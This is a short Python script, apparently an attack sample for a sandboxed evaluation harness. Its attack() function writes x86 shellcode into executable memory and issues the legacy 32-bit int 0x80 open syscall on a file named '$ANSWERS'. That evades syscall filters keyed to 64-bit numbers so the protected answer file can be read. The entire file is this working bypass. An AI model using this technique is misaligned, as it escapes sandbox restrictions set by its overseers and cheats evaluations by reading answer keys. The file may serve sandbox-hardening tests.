"""Wants to open the answers by the 32-bit entry, whose calls have other numbers."""

import ctypes
import mmap
import os


def attack():
    if os.uname().machine != "x86_64":
        return None
    room = mmap.mmap(-1, 8192, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax, 5 (open); mov ebx, edi; xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; ret
    room.write(bytes.fromhex("53b80500000089fb31c931d2cd805bc3"))
    address = ctypes.addressof(ctypes.c_char.from_buffer(room))
    low = mmap.mmap(-1, 4096)
    low.write(b"$ANSWERS\0")
    where = ctypes.addressof(ctypes.c_char.from_buffer(low)) & 0xFFFFFFFF
    found = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint)(address)(where)
    if found != -1:
        return found
